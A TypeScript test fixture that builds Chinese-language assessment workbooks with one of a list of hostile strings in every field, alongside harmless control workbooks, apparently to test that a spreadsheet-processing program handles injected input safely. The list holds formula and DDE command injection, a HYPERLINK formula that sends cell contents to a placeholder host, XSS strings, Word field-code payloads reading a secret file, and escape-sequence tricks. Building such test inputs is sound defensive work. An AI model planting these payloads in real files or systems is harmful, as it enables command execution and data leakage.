import rulebook from '../../src/rulebook/default';
import type { Snapshot } from '../../src/workbook/snapshot';
import { workbook } from '../intake/workbook';

/** Texts that a program might take for something else than text. */
export const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://example.invalid/?"&A1,"点这里")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\n=1+1',
  '＝1＋1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><b>粗</b><!--',
  ']]>&amp;&lt;&#65;',
  '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/><w:t>',
  '{ INCLUDETEXT "C:\\\\secret.txt" }',
  '{HYPERLINK "http://example.invalid"}',
  'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
  '{{body}}',
  '{{正文}}',
  '_x003D_1+1',
  '\u001b[31m红\u001b]0;标题\u0007',
  '\u202e倒写',
  '\ud800半个字',
  '\ufffe\uffff\u0000',
  '__proto__',
  'constructor',
  '$& $1 $`',
];

/**
 * A quarter's workbooks with one text put wherever people write: file and sheet names, titles, headings, units,
 * sentences, figures, remarks. `unit` is the one whose sheet it is, so that the rest is read.
 */
export function workbooksWith(text: string, unit: string): Snapshot[] {
  const selfAssessment = {
    name: text,
    rows: [
      [`${text}2023年考评自评表`],
      [`填报单位：${unit}`],
      ['序号', '条款号', '完成情况', '自评得分', '佐证材料', text],
      [1, '3.5', `${text}承诺时限压缩比102%，即办件比例76%，平均跑动次数0.03次。`, 3, text, text],
      [2, '3.2', `全程网办率93.5%${text}，“零跑腿”比例96%。`, text, text, text],
      [3, text, `${text}，非涉密系统3个，已共享2个。`, 1.5, text, text],
      [4, '6.1', text, 1, text, text],
      [5, '3.7', `新增通办事项${text}`, 0.5, '', text],
    ],
  };
  const list = {
    name: `${text}2`,
    rows: [
      [text],
      [`填报单位：${unit}`],
      ['序号', '指标名称', '计量单位', '数值', '备注'],
      [1, '评价覆盖率', '%', text, text],
      [2, `${text}评价覆盖率`, '%', 93, text],
      [3, '新增通办事项数', text, text, text],
      [4, '电子印章加盖率', '%', `${text}96%`, text],
    ],
  };
  const byUnit = {
    name: '汇总',
    rows: [
      ['序号', '单位', '承诺时限压缩比', '即办件比例', `${text}率`, text],
      [1, unit, text, 0.8, text, text],
      [2, text, 0.9, 0.8, 0.7, text],
      [3, `${unit}${text}`, 0.9, 0.8, 0.7, text],
    ],
  };
  const ledger = {
    name: '台账',
    rows: [
      ['序号', '检查日期', '责任单位', '存在问题', '次数', '备注'],
      [1, '2023-03-02', unit, `${text}线上线下办事指南内容不一致`, 1, text],
      [2, text, unit, '窗口外收件，属“明进暗不进”', text, text],
      [3, '2023-05-20', text, text, 1, text],
    ],
  };
  const register = {
    name: '报送',
    rows: [
      ['序号', '单位', '季度', '应报时间', '实报时间', '备注'],
      [1, unit, '二季度', '2023-06-13 17:00', text, text],
      [2, unit, '三季度', '2023-09-13 17:00', '未报送', text],
    ],
  };
  const stranger = { name: '他人', rows: [[`填报单位：${text}`], ['指标名称', '数值'], ['评价覆盖率', 0.9]] };
  return [
    workbook(`${text}.xlsx`, selfAssessment, list),
    workbook(`${text}台账.xlsx`, byUnit, ledger, register, stranger),
  ];
}

/** A few units share the texts: what is written grows with the units. */
const UNITS = rulebook.units.slice(0, 8).map(({ name }) => name);

/** The workbooks of all hostile texts. */
export function hostileWorkbooks(): Snapshot[] {
  return HOSTILE.flatMap((text, i) => workbooksWith(text, UNITS[i % UNITS.length]));
}

/** Words that do no harm: one that says nothing, and a figure that cannot be, since some of the hostile ones are such. */
const HARMLESS = ['平常文字', '-5'];

/** The same workbooks with a harmless word in every place. */
export function harmlessWorkbooks(): Snapshot[] {
  return HOSTILE.flatMap((_, i) => workbooksWith(HARMLESS[Number(i % 5 === 4)], UNITS[i % UNITS.length]));
}
